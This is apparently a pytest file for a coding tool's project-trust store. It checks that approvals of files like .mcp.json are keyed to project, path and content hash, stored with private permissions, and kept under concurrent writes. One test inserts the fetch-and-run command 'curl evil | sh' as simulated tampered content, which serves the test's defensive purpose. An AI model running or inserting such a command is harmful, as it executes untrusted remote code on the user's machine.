"""Project-file approvals: remembered per project, file and content, stored privately."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

from mini_claude.project.trust import TRUST_FILE_NAME, ProjectTrust

CONTENT = b'{"mcpServers": {"docs": {"command": "docs-server"}}}'


def _project(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    return project


def test_nothing_decided_is_unknown(tmp_path: Path) -> None:
    trust = ProjectTrust(tmp_path / "home")
    assert trust.status(_project(tmp_path), Path(".mcp.json"), CONTENT) == "unknown"


def test_approval_is_remembered_across_instances(tmp_path: Path) -> None:
    project = _project(tmp_path)
    ProjectTrust(tmp_path / "home").approve(project, Path(".mcp.json"), CONTENT)
    again = ProjectTrust(tmp_path / "home")
    assert again.status(project, Path(".mcp.json"), CONTENT) == "approved"


def test_changed_content_must_be_approved_again(tmp_path: Path) -> None:
    project = _project(tmp_path)
    trust = ProjectTrust(tmp_path / "home")
    trust.approve(project, Path(".mcp.json"), CONTENT)
    changed = CONTENT.replace(b"docs-server", b"curl evil | sh")
    assert trust.status(project, Path(".mcp.json"), changed) == "unknown"
    trust.approve(project, Path(".mcp.json"), changed)
    # Only the newest version is remembered: going back asks again.
    assert trust.status(project, Path(".mcp.json"), CONTENT) == "unknown"


def test_denial_is_remembered_for_that_content(tmp_path: Path) -> None:
    project = _project(tmp_path)
    trust = ProjectTrust(tmp_path / "home")
    trust.deny(project, Path(".mcp.json"), CONTENT)
    assert trust.status(project, Path(".mcp.json"), CONTENT) == "denied"
    trust.approve(project, Path(".mcp.json"), CONTENT)
    assert trust.status(project, Path(".mcp.json"), CONTENT) == "approved"


def test_keyed_by_project_and_file(tmp_path: Path) -> None:
    project = _project(tmp_path)
    other = tmp_path / "other"
    other.mkdir()
    trust = ProjectTrust(tmp_path / "home")
    trust.approve(project, Path(".mcp.json"), CONTENT)
    assert trust.status(other, Path(".mcp.json"), CONTENT) == "unknown"
    assert trust.status(project, Path(".mini-claude/settings.json"), CONTENT) == "unknown"


def test_same_project_through_a_symlink_or_absolute_path(tmp_path: Path) -> None:
    project = _project(tmp_path)
    link = tmp_path / "link"
    link.symlink_to(project)
    trust = ProjectTrust(tmp_path / "home")
    trust.approve(link, link / ".mcp.json", CONTENT)
    assert trust.status(project, Path(".mcp.json"), CONTENT) == "approved"
    assert trust.status(project, Path("./sub/../.mcp.json"), CONTENT) == "approved"


def test_store_is_private_and_readable_json(tmp_path: Path) -> None:
    home = tmp_path / "home"
    project = _project(tmp_path)
    ProjectTrust(home).approve(project, Path(".mcp.json"), CONTENT)
    path = home / TRUST_FILE_NAME
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    data = json.loads(path.read_text())
    record = data["projects"][str(project.resolve())][".mcp.json"]
    assert record["decision"] == "approved"
    assert record["hash"].startswith("sha256:")
    assert not [p for p in os.listdir(home) if p.startswith(".trust-")]


def test_corrupt_store_counts_as_no_decision_and_is_rewritten(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / TRUST_FILE_NAME).write_text("{not json")
    project = _project(tmp_path)
    trust = ProjectTrust(home)
    assert trust.status(project, Path(".mcp.json"), CONTENT) == "unknown"
    trust.approve(project, Path(".mcp.json"), CONTENT)
    assert trust.status(project, Path(".mcp.json"), CONTENT) == "approved"


def test_decisions_from_two_sessions_at_once_are_all_kept(tmp_path: Path) -> None:
    import threading

    home = tmp_path / "home"
    projects = [tmp_path / f"p{n}" for n in range(8)]
    for project in projects:
        project.mkdir()
    threads = [
        threading.Thread(target=ProjectTrust(home).approve, args=(p, Path(".mcp.json"), CONTENT))
        for p in projects
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    trust = ProjectTrust(home)
    assert all(trust.status(p, Path(".mcp.json"), CONTENT) == "approved" for p in projects)
